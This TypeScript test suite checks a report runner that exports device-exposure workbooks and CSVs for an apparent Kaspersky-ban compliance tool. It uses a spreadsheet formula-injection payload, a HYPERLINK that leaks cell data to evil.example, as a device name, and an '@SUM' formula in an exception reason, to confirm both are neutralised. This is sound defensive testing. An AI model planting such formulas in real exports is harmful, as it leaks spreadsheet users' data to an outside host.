import { mkdtempSync, existsSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import * as XLSX from 'xlsx';
import { CatalogService, loadCatalog } from '@interdict/catalog';
import { loadConfig, type Config } from '@interdict/config';
import {
  ExposureQueryService,
  ExposureService,
  SnapshotService,
  SoftwareMatchingService,
} from '@interdict/exposure';
import {
  createTestDatabase,
  newDevice,
  newException,
  newInstallation,
  newSoftware,
  newSource,
  removeInstallation,
  type TestDatabase,
} from '@interdict/testing';
import { streamExposedDevices } from '../data/report.queries';
import { ReportSnapshot } from '../data/report-snapshot';
import { catalogRuleDirectory } from '../rule-directory';
import { ReportScheduleService } from '../schedules/report-schedule.service';
import { LocalDiskReportStorage } from '../storage/local-disk-report-storage';
import type { ReportStorage } from '../storage/report-storage';
import { ReportRetention } from './report-retention';
import { ReportRunner } from './report-runner';
import { ReportService } from './report.service';
import type { Requester } from './report-views';

const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const RULE_URL = 'https://regulations.justia.com/regulations/fedreg/2024/06/24/2024-13532.html';
const analyst: Requester = { type: 'api_key', id: 'k1', name: 'analyst-key' };
const DAY = 86_400_000;

describe('ReportRunner (real Postgres, files read back with SheetJS and csv-parse)', () => {
  let db: TestDatabase;
  let config: Config;
  let dir: string;
  let storage: LocalDiskReportStorage;
  let service: ReportService;
  let runner: ReportRunner;
  let schedules: ReportScheduleService;
  let catalog: CatalogService;
  let exposure: ExposureService;
  const ids: Record<string, string> = {};

  const makeRunner = (s: ReportStorage) =>
    new ReportRunner(
      db.dataSource,
      config,
      s,
      catalogRuleDirectory(catalog),
      new ReportRetention(db.dataSource, config, s),
    );

  beforeAll(async () => {
    db = await createTestDatabase();
    dir = mkdtempSync(join(tmpdir(), 'interdict-reports-'));
    config = loadConfig({
      env: { NODE_ENV: 'test', INTERDICT_ORG_NAME: 'Société Exemple', INTERDICT_DATA_DIR: dir },
      configDir: mkdtempSync(join(tmpdir(), 'interdict-noconfig-')),
    });
    // The shipped catalog under the default profile: a private US business, bound by the Commerce ban.
    catalog = new CatalogService(
      loadCatalog({ dir: join(__dirname, '..', '..', '..', '..', 'config', 'catalog') }),
      config.policy,
    );
    exposure = new ExposureService(
      db.dataSource,
      catalog,
      new SoftwareMatchingService(db.dataSource, catalog),
    );
    storage = new LocalDiskReportStorage(join(dir, 'reports'));
    service = new ReportService(db.dataSource, storage);
    runner = makeRunner(storage);
    schedules = new ReportScheduleService(db.dataSource);

    const ds = db.dataSource;
    const intune = await newSource(ds, { name: 'Contoso Intune', kind: 'intune' });
    const jamf = await newSource(ds, { name: 'Contoso Jamf', kind: 'jamf' });
    await ds.query(
      `INSERT INTO sync_run (source_id, status, started_at, finished_at) VALUES
         ($1, 'succeeded', now() - interval '3 hours', now() - interval '2 hours'),
         ($1, 'failed', now() - interval '1 hour', now() - interval '50 minutes')`,
      [intune],
    );
    // One Mac seen by both MDMs, each with its own spelling: one exposure, both sources listed, the hostile name of
    // the record seen last.
    ids.macIntune = await newDevice(ds, {
      sourceId: intune,
      serial: 'C02XYZ',
      name: HOSTILE,
      platform: 'macos',
      lastCheckInAt: new Date(Date.now() - 3600_000),
    });
    ids.macJamf = await newDevice(ds, {
      sourceId: jamf,
      serial: 'C02XYZ',
      name: 'old-jamf-name',
      platform: 'macos',
      lastCheckInAt: new Date(Date.now() - 5 * 3600_000),
      lastSeenAt: new Date(Date.now() - 5 * 3600_000),
    });
    ids.pc = await newDevice(ds, {
      sourceId: intune,
      name: 'PC-José',
      serial: 'PC1',
      platform: 'windows',
      tags: ['finance'],
    });
    ids.stale = await newDevice(ds, {
      sourceId: intune,
      name: 'stale-laptop',
      lastCheckInAt: new Date(Date.now() - 40 * DAY),
    });
    ids.never = await newDevice(ds, {
      sourceId: jamf,
      name: 'never-seen',
      lastCheckInAt: null,
      appsReported: false,
    });

    const kisIntune = await newSoftware(ds, { name: 'Kaspersky Internet Security', platform: 'macos' });
    const kisJamf = await newSoftware(ds, {
      name: 'Kaspersky Internet Security.app',
      platform: 'macos',
      bundleId: 'com.kaspersky.kis',
    });
    const kes = await newSoftware(ds, {
      name: 'Kaspersky Endpoint Security for Windows',
      publisher: 'AO Kaspersky Lab',
    });
    // The Mac has run it for 35.5 days: the Commerce ban's 30-day window passed 5.5 days ago.
    const macFirstSeen = new Date(Date.now() - 35.5 * DAY);
    await newInstallation(ds, { deviceId: ids.macIntune, softwareId: kisIntune, firstSeenAt: macFirstSeen });
    await newInstallation(ds, { deviceId: ids.macJamf, softwareId: kisJamf, firstSeenAt: macFirstSeen });
    await newInstallation(ds, {
      deviceId: ids.pc,
      softwareId: kes,
      firstSeenAt: new Date(Date.now() - 10 * DAY),
    });
    ids.exception = await newException(ds, {
      productId: 'kaspersky-endpoint-security',
      scopeValue: 'LAB1',
      expiresAt: new Date(Date.now() + 30 * DAY),
      reason: '@SUM(1+1) lab machine',
    });
    await newException(ds, {
      ruleId: 'US-BIS-FD',
      scopeValue: 'OLD',
      expiresAt: new Date(Date.now() - DAY),
    });
    const lab = await newDevice(ds, { sourceId: intune, name: 'lab-1', serial: 'LAB1' });
    await newInstallation(ds, { deviceId: lab, softwareId: kes });
    await newInstallation(ds, { deviceId: ids.stale, softwareId: kes });
    await exposure.recompute();
    await removeInstallation(ds, { deviceId: ids.stale, softwareId: kes });
    await exposure.recompute();
    // Five days of trend: the totals row of each day, and detail rows the Summary must not add to it.
    await ds.query(
      `INSERT INTO exposure_snapshot (day, rule_id, product_id, platform, open_count, overdue_count, excepted_count)
       SELECT (now() AT TIME ZONE 'UTC')::date - n, k.rule_id, k.product_id, k.platform, 10 - n, n, 1
         FROM generate_series(1, 5) n,
              (VALUES ('*', '*', '*'), ('US-BIS-FD', '*', '*'), ('*', 'kaspersky-consumer', 'macos')) k(rule_id, product_id, platform)`,
    );
  });

  afterAll(async () => {
    await db.drop();
  });

  async function runOne(type: string, format: 'xlsx' | 'csv', filters?: unknown) {
    const queued = await service.request({ type, format, filters }, analyst);
    expect(queued.status).toBe('queued');
    const done = await runner.runNext();
    expect(done).toMatchObject({ id: queued.id, status: 'succeeded' });
    const download = await service.openDownload(queued.id);
    const chunks: Buffer[] = [];
    for await (const c of download.body as Readable) chunks.push(c as Buffer);
    return { report: done!, download, bytes: Buffer.concat(chunks) };
  }

  it('writes the exposure workbook: one row per exposure, its evidence, the rules, real dates and numbers, a neutralised hostile name', async () => {
    const { report, download, bytes } = await runOne('exposure', 'xlsx');
    expect(download.fileName).toMatch(/^Societe-Exemple_exposure_\d{4}-\d{2}-\d{2}_\d{4}Z\.xlsx$/);
    expect(bytes.length).toBe(download.sizeBytes);
    expect(report.rowCount).toBe(2);

    const wb = XLSX.read(bytes, { cellDates: true });
    expect(wb.SheetNames).toEqual([
      'Summary',
      'Exposed devices',
      'Evidence',
      'Rules',
      'Software',
      'Coverage',
      'Exceptions',
    ]);

    const exposed = wb.Sheets['Exposed devices'];
    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(exposed, { defval: null });
    expect(rows).toHaveLength(2);
    const header = XLSX.utils.sheet_to_json<string[]>(exposed, { header: 1 })[0];
    expect(header.slice(0, 7)).toEqual([
      'Device',
      'Serial',
      'User',
      'User principal name',
      'Platform',
      'OS version',
      'Source(s)',
    ]);
    expect(exposed['!autofilter']).toBeDefined();

    // The Mac: one exposure for both records and both spellings, under every rule that applies to it.
    const mac = rows.find((r) => r.Serial === 'C02XYZ')!;
    expect(mac.Device).toBe(`'${HOSTILE}`);
    expect(mac['Source(s)']).toBe('Contoso Intune, Contoso Jamf');
    expect(mac.Titles).toBe('Kaspersky Internet Security, Kaspersky Internet Security.app');
    expect(mac.Product).toBe(catalog.productById('kaspersky-consumer')!.name);
    expect(mac.Standing).toBe('binding');
    expect(String(mac.Rules)).toContain('US-BIS-FD');
    expect(String(mac['Rule citations'])).toContain('89 FR 52434');
    expect(mac['Days overdue']).toBe(5);
    expect(mac['Due (UTC)']).toBeInstanceOf(Date);
    // Every data cell carries its column's format (the writer hands cells the column's style object).
    const formatted = XLSX.read(bytes, { cellNF: true }).Sheets['Exposed devices'];
    for (let r = 1; r <= rows.length; r++) {
      expect(formatted[XLSX.utils.encode_cell({ r, c: header.indexOf('Due (UTC)') })].z).toBe(
        'yyyy-mm-dd hh:mm',
      );
      expect(formatted[XLSX.utils.encode_cell({ r, c: header.indexOf('Last seen (UTC)') })].z).toBe(
        'yyyy-mm-dd hh:mm',
      );
    }
    const pc = rows.find((r) => r.Serial === 'PC1')!;
    expect(pc.Titles).toBe('Kaspersky Endpoint Security for Windows');
    expect(pc['Days overdue']).toBe(0);

    // Types of the cells themselves: no formula anywhere, dates are dates, counts are numbers.
    for (const cell of Object.values(exposed).filter((c) => typeof c === 'object' && c && 't' in c)) {
      expect((cell as XLSX.CellObject).f).toBeUndefined();
    }
    const macRow = rows.indexOf(mac) + 2;
    const col = (name: string) => XLSX.utils.encode_col(header.indexOf(name));
    expect(exposed[`${col('Due (UTC)')}${macRow}`].t).toBe('d');
    expect(exposed[`${col('Days overdue')}${macRow}`].t).toBe('n');

    // Evidence: both records of the Mac, each with its own title; the stale laptop's resolved exposure is not
    // selected (status open by default).
    const evidence = XLSX.utils.sheet_to_json<Record<string, unknown>>(wb.Sheets.Evidence, { defval: null });
    expect(
      evidence.filter((e) => e.Serial === 'C02XYZ').map((e) => [e.Source, e.Title, e['Bundle / package id']]),
    ).toEqual([
      ['Contoso Intune', 'Kaspersky Internet Security', null],
      ['Contoso Jamf', 'Kaspersky Internet Security.app', 'com.kaspersky.kis'],
    ]);
    expect(evidence).toHaveLength(3);

    // Rules: every catalog rule with its standing here; the Commerce ban applies to the 3 exposed devices.
    const ruleRows = XLSX.utils.sheet_to_json<Record<string, unknown>>(wb.Sheets.Rules, { defval: null });
    expect(ruleRows).toHaveLength(catalog.rules().length);
    expect(ruleRows.find((r) => r.Rule === 'US-BIS-FD')).toMatchObject({
      Standing: 'binding',
      Why: 'binds everyone in US',
      'Exposed devices': 2,
      Excepted: 1,
    });
    expect(ruleRows.find((r) => r.Rule === 'DE-BSI-2022')).toMatchObject({
      Standing: 'off',
      'Exposed devices': 0,
    });
    const bis = XLSX.utils
      .sheet_to_json<string[]>(wb.Sheets.Rules, { header: 1 })
      .findIndex((r) => r[0] === 'US-BIS-FD');
    expect(wb.Sheets.Rules[`C${bis + 1}`].l?.Target).toBe(RULE_URL);

    const software = XLSX.utils.sheet_to_json<Record<string, unknown>>(wb.Sheets.Software);
    expect(software).toHaveLength(3);
    expect(software.find((s) => s.Title === 'Kaspersky Internet Security.app')).toMatchObject({
      'Devices (open)': 1,
      'Devices overdue': 1,
    });
    expect(software.find((s) => s.Platform === 'windows')).toMatchObject({
      'Devices (open)': 1,
      'Devices excepted': 1,
    });

    const coverage = XLSX.utils.sheet_to_json<Record<string, unknown>>(wb.Sheets.Coverage, { defval: null });
    expect(coverage.map((c) => [c.Device, c.Gap])).toEqual([
      ['never-seen', 'never checked in'],
      ['stale-laptop', 'stale'],
    ]);
    expect(coverage[1]['Days since check-in']).toBe(40);

    const exceptions = XLSX.utils.sheet_to_json<Record<string, unknown>>(wb.Sheets.Exceptions, {
      defval: null,
    });
    expect(exceptions.map((e) => [e.State, e['Scope value'], e['Exposures excepted']])).toEqual([
      ['active', 'LAB1', 1],
      ['expired', 'OLD', 0],
    ]);
    expect(exceptions[0].Reason).toBe("'@SUM(1+1) lab machine");
    expect(exceptions[0]['Expires (UTC)']).toBeInstanceOf(Date);

    const summary = XLSX.utils.sheet_to_json<unknown[]>(wb.Sheets.Summary, { header: 1, defval: null });
    const valueOf = (label: string) => summary.find((r) => r[0] === label)?.[1];
    expect(valueOf('As of (UTC)')).toBeInstanceOf(Date);
    expect(valueOf('Organisation profile')).toContain('jurisdictions US');
    expect(valueOf('Catalog version')).toBe(catalog.version);
    expect(valueOf('Exposed devices')).toBe(2);
    expect(valueOf('Exposures (open)')).toBe(2);
    expect(valueOf('Overdue exposures')).toBe(1);
    expect(valueOf('Excepted exposures')).toBe(1);
    // Covered = checked in within staleAfterDays with apps reported (one definition, libs/exposure coverage.queries.ts).
    expect(valueOf('Devices covered (checked in, apps reported)')).toBe(3);
    expect(valueOf('Coverage gaps (device records)')).toBe(2);
    const intuneRow = summary.find((r) => r[0] === 'Contoso Intune')!;
    expect(intuneRow[2]).toBeInstanceOf(Date); // last successful sync, not the later failed one
    expect(intuneRow[3]).toBe('failed');
    // The trend reads the totals row of each day only (never totals + detail rows).
    const trendStart = summary.findIndex((r) => r[0] === 'Day');
    expect(summary.slice(trendStart + 1, trendStart + 6).map((r) => r[1])).toEqual([5, 6, 7, 8, 9]);
    expect(summary[trendStart + 5][0]).toBeInstanceOf(Date);
  });

  it('shows on the Summary exactly the figures the API gives for the same data', async () => {
    const now = new Date();
    await new SnapshotService(db.dataSource, config).takeSnapshot(now);
    const api = new ExposureQueryService(db.dataSource, catalog, config);
    const [s, trend] = await Promise.all([api.summary({}, now), api.trend(30, now)]);
    const { bytes } = await runOne('exposure', 'xlsx');
    const summary = XLSX.utils.sheet_to_json<unknown[]>(
      XLSX.read(bytes, { cellDates: true }).Sheets.Summary,
      {
        header: 1,
        defval: null,
      },
    );
    const valueOf = (label: string) => summary.find((r) => r[0] === label)?.[1];
    expect({
      exposedDevices: valueOf('Exposed devices'),
      exposures: valueOf('Exposures (open)'),
      overdueExposures: valueOf('Overdue exposures'),
      overdueDevices: valueOf('Overdue devices'),
      reviewExposures: valueOf('Exposures for review (no binding rule)'),
      exceptedExposures: valueOf('Excepted exposures'),
    }).toEqual(s.totals);
    // "Covered" is one definition: the Summary, the API's coverage and the day's trend point agree.
    const coverage = await api.coverage(now);
    expect(valueOf('Devices covered (checked in, apps reported)')).toBe(coverage.totals.covered);
    expect(trend.at(-1)!.devicesCovered).toBe(coverage.totals.covered);
    const today = summary.find(
      (r) => r[0] instanceof Date && r[0].toISOString().slice(0, 10) === trend.at(-1)!.day,
    )!;
    expect(today.slice(1, 7)).toEqual([
      trend.at(-1)!.open,
      trend.at(-1)!.overdue,
      trend.at(-1)!.excepted,
      trend.at(-1)!.new,
      trend.at(-1)!.resolved,
      trend.at(-1)!.exposedDevices,
    ]);
    const byRule = summary.filter((r) => typeof r[0] === 'string' && s.byRule.some((x) => x.ruleId === r[0]));
    for (const r of s.byRule) {
      const row = byRule.find((x) => x[0] === r.ruleId)!;
      expect([row[1], row[3], row[4], row[5], row[6]]).toEqual([
        r.standing,
        r.exposedDevices,
        r.exposures,
        r.overdueExposures,
        r.exceptedExposures,
      ]);
    }
    await db.dataSource.query(`DELETE FROM exposure_snapshot WHERE day = (now() AT TIME ZONE 'UTC')::date`);
  });

  it('announces report.ready in the outbox with the finished report', async () => {
    const { report } = await runOne('software', 'xlsx');
    const [event] = await db.dataSource.query(
      `SELECT payload FROM webhook_event WHERE type = 'report.ready' AND payload->>'reportId' = $1`,
      [report.id],
    );
    expect(event.payload).toMatchObject({
      reportId: report.id,
      type: 'software',
      format: 'xlsx',
      rowCount: 3,
    });
    expect(event.payload.sizeBytes).toBe(report.sizeBytes);
  });

  it('writes CSV of the same rows with a BOM, RFC 4180 quoting and neutralised formulas', async () => {
    const { bytes, download } = await runOne('exposure', 'csv');
    expect(download.contentType).toBe('text/csv; charset=utf-8');
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = parse<Record<string, string>>(bytes, { bom: true, columns: true });
    expect(rows).toHaveLength(2);
    const mac = rows.find((r) => r.Serial === 'C02XYZ')!;
    expect(mac.Device).toBe(`'${HOSTILE}`);
    expect(new Date(mac['Due (UTC)']).getTime()).toBeLessThan(Date.now());
    expect(mac['Days overdue']).toBe('5');
  });

  it('applies filters: platform, exposure status, group and source', async () => {
    const mac = await runOne('exposed-devices', 'csv', { platform: ['macos'] });
    expect(parse(mac.bytes, { bom: true, columns: true })).toHaveLength(1);
    const excepted = await runOne('exposed-devices', 'csv', { status: ['excepted'] });
    const rows = parse<Record<string, string>>(excepted.bytes, { bom: true, columns: true });
    expect(rows.map((r) => [r.Device, r.Status])).toEqual([['lab-1', 'excepted']]);
    const finance = await runOne('exposed-devices', 'csv', {
      group: ['finance'],
      source: ['Contoso Intune'],
    });
    expect(
      parse<Record<string, string>>(finance.bytes, { bom: true, columns: true }).map((r) => r.Device),
    ).toEqual(['PC-José']);
    // The exposure list's search and severity: a serial, case-insensitive; one severity, counted in the database.
    const bySerial = await runOne('exposed-devices', 'csv', { search: ['c02xy'] });
    expect(
      parse<Record<string, string>>(bySerial.bytes, { bom: true, columns: true }).map((r) => r.Serial),
    ).toEqual(['C02XYZ']);
    const [{ n }] = await db.dataSource.query(
      `SELECT count(*)::int AS n FROM exposure WHERE status = 'open' AND severity = 'critical'`,
    );
    expect(n).toBeGreaterThan(0);
    const critical = await runOne('exposed-devices', 'csv', { severity: ['critical'] });
    expect(parse(critical.bytes, { bom: true, columns: true })).toHaveLength(n);
    const none = await runOne('exposed-devices', 'csv', { search: ['%'] });
    expect(parse(none.bytes, { bom: true, columns: true })).toHaveLength(0); // literal, not a wildcard
  });

  it('refuses bad filters by name and queues nothing', async () => {
    const before = await db.count('report');
    await expect(
      service.request({ type: 'exposure', filters: { colour: ['red'] } }, analyst),
    ).rejects.toMatchObject({
      code: 'invalid_filter',
      field: 'filters.colour',
    });
    await expect(service.request({ type: 'nope' }, analyst)).rejects.toMatchObject({ field: 'type' });
    expect(await db.count('report')).toBe(before);
  });

  it('records how far a running report is (sheet, rows so far) and clears it when the report ends', async () => {
    // Storage that takes its time: the rows are written while the file is still being stored.
    const slow: ReportStorage = {
      put: async (key, body) => {
        await new Promise((r) => setTimeout(r, 2_500));
        return storage.put(key, body);
      },
      get: (key) => storage.get(key),
      delete: (key) => storage.delete(key),
      locate: (key) => storage.locate(key),
    };
    const queued = await service.request({ type: 'exposure', format: 'xlsx' }, analyst);
    const running = makeRunner(slow).runNext();
    const seen: unknown[] = [];
    for (let i = 0; i < 40 && !seen.length; i++) {
      await new Promise((r) => setTimeout(r, 100));
      const now = await service.get(queued.id);
      if (now.progress) seen.push(now.progress);
    }
    const done = await running;
    expect(done).toMatchObject({ id: queued.id, status: 'succeeded', progress: null });
    // Every sheet of the workbook was written before the slow storage took it: the tally counts all their rows.
    expect(seen[0]).toMatchObject({ sheet: expect.any(String), rows: expect.any(Number) });
    const { sheet, rows } = seen[0] as { sheet: string; rows: number };
    expect(['Exposed devices', 'Evidence', 'Rules', 'Coverage', 'Exceptions', 'Software']).toContain(sheet);
    expect(rows).toBeGreaterThanOrEqual(done!.rowCount!);
    expect((await service.get(queued.id)).progress).toBeNull();
  });

  it('lets only one of two racing workers claim a queued report', async () => {
    const queued = await service.request({ type: 'coverage', format: 'csv' }, analyst);
    const results = await Promise.all([runner.runNext(), makeRunner(storage).runNext()]);
    expect(results.flatMap((r) => (r ? [r.id] : []))).toEqual([queued.id]);
  });

  it('marks a report failed, with no event and no file, when storage fails', async () => {
    const broken: ReportStorage = {
      put: async (_key, body) => {
        body.resume();
        throw new Error('disk full');
      },
      get: () => storage.get('x'),
      delete: async () => undefined,
      locate: (key) => key,
    };
    const queued = await service.request({ type: 'exposure', format: 'xlsx' }, analyst);
    const done = await makeRunner(broken).runNext();
    expect(done).toMatchObject({ id: queued.id, status: 'failed', error: 'disk full', fileName: null });
    const events = await db.dataSource.query(`SELECT 1 FROM webhook_event WHERE payload->>'reportId' = $1`, [
      queued.id,
    ]);
    expect(events).toHaveLength(0);
    await expect(service.openDownload(queued.id)).rejects.toMatchObject({ code: 'report_not_ready' });
  });

  it('keeps one consistent snapshot: rows committed while a report reads do not appear in it', async () => {
    const snap = await ReportSnapshot.open(db.dataSource);
    try {
      const sw = await newSoftware(db.dataSource, { name: 'TikTok', platform: 'ios' });
      const phone = await newDevice(db.dataSource, {
        sourceId: (await db.dataSource.query(`SELECT id FROM source LIMIT 1`))[0].id,
        platform: 'ios',
      });
      await newInstallation(db.dataSource, { deviceId: phone, softwareId: sw, version: '37.0' });
      await exposure.recompute();
      expect(await db.count('exposure')).toBe(5);
      const seen: unknown[] = [];
      for await (const r of streamExposedDevices(snap, {})) seen.push(r);
      expect(seen).toHaveLength(2);
    } finally {
      await snap.close();
    }
  });

  it('runs a schedule once per tick across workers and keeps only keepCount files', async () => {
    const s = await schedules.create(
      {
        name: 'Monday exposure',
        cron: '0 7 * * 1',
        timezone: 'Europe/Paris',
        type: 'exceptions',
        format: 'csv',
        keepCount: 1,
      },
      analyst,
    );
    const tick = new Date('2026-11-30T06:00:00Z');
    const fired = await Promise.all([schedules.fire(s.id, tick), schedules.fire(s.id, tick)]);
    expect(fired.filter(Boolean)).toHaveLength(1);
    const first = await runner.runNext();
    expect(first).toMatchObject({
      scheduleId: s.id,
      status: 'succeeded',
      requestedBy: 'schedule:Monday exposure',
    });

    await schedules.fire(s.id, new Date('2026-12-07T06:00:00Z'));
    const second = await runner.runNext();
    expect(second?.status).toBe('succeeded');

    const [old] = await db.dataSource.query(`SELECT deleted_at, storage_key FROM report WHERE id = $1`, [
      first!.id,
    ]);
    expect(old.deleted_at).toBeInstanceOf(Date);
    expect(existsSync(join(dir, 'reports', ...String(old.storage_key).split('/')))).toBe(false);
    await expect(service.openDownload(first!.id)).rejects.toMatchObject({ code: 'report_file_not_found' });
    const [kept] = await db.dataSource.query(`SELECT storage_key FROM report WHERE id = $1`, [second!.id]);
    expect(readFileSync(join(dir, 'reports', ...String(kept.storage_key).split('/'))).length).toBeGreaterThan(
      0,
    );
  });

  it('refuses a schedule with a bad time zone or cron and stores nothing', async () => {
    const before = await db.count('report_schedule');
    await expect(
      schedules.create({ name: 'x', cron: '0 7 * * 1', timezone: 'Mars/Olympus', type: 'exposure' }, analyst),
    ).rejects.toMatchObject({ code: 'invalid_schedule', field: 'timezone' });
    await expect(
      schedules.create({ name: 'x', cron: '* * * * * *', type: 'exposure' }, analyst),
    ).rejects.toMatchObject({
      field: 'cron',
    });
    expect(await db.count('report_schedule')).toBe(before);
  });
});
